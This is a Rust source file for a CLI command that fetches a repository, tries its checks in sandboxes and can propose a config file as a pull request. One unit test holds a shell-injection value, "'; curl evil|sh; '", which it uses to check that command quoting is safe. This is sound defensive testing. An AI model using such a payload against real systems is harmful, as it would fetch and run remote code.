//! `caisson repo try`: sets a repository's default branch up as a task would, prints step by step what works and what is missing, and
//! proposes a `.caisson.toml`. `caisson repo add` ends with the same.
//!
//! Owns the command and its changes: none, unless `--propose` asks for a pull request. What is tried is in `trial/look.rs`, its environment
//! in `trial/environment.rs`, the pull request in `trial/propose.rs`. Tests: `tests/try_out.rs`.

mod environment;
mod look;
mod propose;

use super::Accounts;
use super::shown::accepting;
use crate::barrier::Proof;
use crate::cli::interruption::interrupted;
use crate::cli::printer::{Complaint, Printer};
use crate::config::Process;
use crate::config::process::Repository as Entry;
use crate::forge::{ForgeReads, RepoRef};
use crate::git::{Auth, Branch, FetchLimits, RemoteUrl, Repos};
use crate::text::shell_word;
use anyhow::Result;
use clap::Args;
use domain::Commit;
use environment::Environment;
use look::{Look, TrialResult};

/// The repository to try.
pub(super) struct Target<'a> {
    pub key: &'a str,
    pub repos: &'a Repos,
    pub commit: &'a Commit,
    /// Hash of the project file that the operator accepted; empty = none.
    pub accepted: &'a str,
    /// Its source, for `caisson repo add`.
    pub source: &'a str,
}

#[derive(Debug, Args)]
#[command(
    after_help = "Runs the repository's own commands in sandboxes of this command alone: setup with the network that [egress] grants every \
    task, checks without one. Nothing is changed: what is found is printed. A .caisson.toml takes effect when it stands on the default \
    branch; its setup, and hosts beyond yours, when you accepted it with `caisson repo add`.\n\
    Examples:\n  caisson repo try shop\n  caisson repo try shop --propose"
)]
pub struct Try {
    /// Which one (`caisson repo list`).
    #[arg(value_name = "NAME")]
    key: String,
    /// Open the proposed .caisson.toml as a pull request, by the bot's account.
    #[arg(long)]
    propose: bool,
}

/// What `caisson repo add` is given for this entry, whose repository is at this place now.
fn again(entry: &Entry, at: &RepoRef) -> String {
    let source = match entry.origin() {
        "" => format!("{} --here", shell_word(&at.to_string())),
        origin => shell_word(origin),
    };
    format!("{source} --name {}{}", shell_word(&entry.key), accepting(&entry.accepted_foreign))
}

impl Try {
    pub(super) async fn run(self, config: &Process, printer: &Printer) -> Result<()> {
        let entry = config.repository(&self.key).ok_or_else(|| {
            Complaint::new(format!("no repository has the key {}", self.key)).hint("caisson repo list")
        })?;
        let accounts = Accounts::open(config).await?;
        let scratch = tempfile::tempdir()?;
        // The floor is the state directory's disk.
        let limits = FetchLimits { disk_floor_bytes: 0, ..FetchLimits::of(config) };
        let repos = Repos::new(scratch.path()).with_limits(limits);
        let brought = Brought::of(&entry, &accounts, &repos).await?;
        let target = Target {
            key: &entry.key,
            repos: &repos,
            commit: &brought.head,
            accepted: &entry.accepted,
            source: &again(&entry, &brought.at),
        };
        printer.say(&format!("{} {} at {}", brought.at, entry.default_branch, brought.head.short()));
        let seen = look(config, &target, printer).await?;
        let Some(text) = &seen.file else {
            return match seen.works {
                true => Ok(()),
                false => Err(Complaint::new(format!("the checks of {} do not run", entry.key))
                    .hint("what is missing stands above; mend it, then try again")
                    .into()),
            };
        };
        if !self.propose {
            printer.hint(&format!("caisson repo try {} --propose opens it as a pull request", entry.key));
            return Ok(());
        }
        propose::open(config, &entry, &accounts, &repos, &brought, text, &seen.summary, printer).await
    }
}

/// The default branch in the local repository.
pub(super) struct Brought {
    pub at: RepoRef,
    pub url: RemoteUrl,
    pub auth: Auth,
    pub head: Commit,
}

impl Brought {
    async fn of(entry: &Entry, accounts: &Accounts, repos: &Repos) -> Result<Brought> {
        // By its id, because it may have been renamed.
        let found = accounts.forge.locate(entry.id).await?;
        let at = RepoRef::new(found.owner, found.name);
        let url = RemoteUrl::parse(&format!("{}/{at}.git", accounts.base.as_str().trim_end_matches('/')))?;
        let auth = Auth::basic(&accounts.bot.login, accounts.bot_token.expose());
        repos.fetch(&entry.key, &url, Some(&auth)).await?;
        let head = repos.resolve(&entry.key, &Branch::parse(&entry.default_branch)?).await?;
        Ok(Brought { at, url, auth, head })
    }
}

/// What did not hold when the barrier was last tried since this machine booted; empty if it was not tried.
fn broken(proof: Option<&Proof>, boot: &str) -> Vec<String> {
    proof.filter(|proof| proof.key.boot == boot.trim()).map(|proof| proof.mismatches.clone()).unwrap_or_default()
}

/// Tries the repository in a temporary installation, which is removed afterwards.
///
/// # Errors
/// When the barrier is known not to hold, because no task starts then either.
async fn look(config: &Process, target: &Target<'_>, printer: &Printer) -> Result<TrialResult> {
    let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap_or_default();
    let broken = broken(Proof::last(&config.state_dir).as_ref(), &boot);
    if !broken.is_empty() {
        let complaint = Complaint::new("a sandbox did not hold when `caisson barrier` last tried one on this machine");
        return Err(complaint.because(broken.join("; ")).hint("mend that, see that `caisson barrier` holds").into());
    }
    let work = async {
        let mut environment = Environment::lay(config, target.repos.clone(), printer).await?;
        let seen = Box::pin(Look::new(&mut environment, target, printer).all()).await;
        printer.step("removing what was made");
        seen
    };
    tokio::select! {
        done = work => done,
        stopped = interrupted() => {
            stopped?;
            Err(Complaint::new("stopped; what was started has been ended").into())
        }
    }
}

/// The same at the end of `repo add`, for information. An obstacle is printed and is not a fault of the repository.
pub(super) async fn inform(config: &Process, target: &Target<'_>, printer: &Printer) {
    printer.heading("whether its checks run in a sandbox (--no-try leaves this out)");
    if let Err(error) = look(config, target, printer).await {
        let why = Complaint::from(&error);
        printer.warn(&format!("not looked at: {}", [vec![why.what], why.why].concat().join(": ")));
        printer.hint(&format!("caisson repo try {} looks later", target.key));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_the_forge_names_is_one_word_of_the_command_that_is_advised() {
        let accepted_foreign = vec!["deploy key 7 \"'; curl evil|sh; '\"".to_owned()];
        let entry = Entry { key: "shop".to_owned(), accepted_foreign, ..Entry::default() };
        let quoted = r#"--accept-foreign 'deploy key 7 "'\''; curl evil|sh; '\''"'"#;
        let at = RepoRef::new("team", "shop");
        assert_eq!(again(&entry, &at), format!("team/shop --here --name shop {quoted}"));
        let copied = Entry { copied_from: "/srv/it's here".to_owned(), ..entry };
        assert_eq!(again(&copied, &at), format!(r"'/srv/it'\''s here' --name shop {quoted}"));
    }

    #[test]
    fn a_barrier_that_is_known_not_to_hold_is_asked_about_this_boot_alone() {
        let mut proof: Proof = serde_json::from_value(serde_json::json!({
            "at": 1, "mismatches": ["check 7: a socket"],
            "key": { "kernel": "6", "boot": "b-1", "engine": "", "daemon": "", "seccomp": "", "sysctls": {}, "runner": "",
                "profiles": [], "images": {}, "router": null, "version": "",
                "limits": { "memory_bytes": 1, "pids": 1, "cpus": 1.0, "workspace_bytes": 0, "tmp_bytes": 1, "nofile": 1 } },
        }))
        .expect("a proof");
        assert_eq!(broken(Some(&proof), "b-1\n"), ["check 7: a socket"]);
        assert!(broken(Some(&proof), "b-2\n").is_empty() && broken(None, "b-1").is_empty());
        proof.mismatches.clear();
        assert!(broken(Some(&proof), "b-1").is_empty());
    }
}
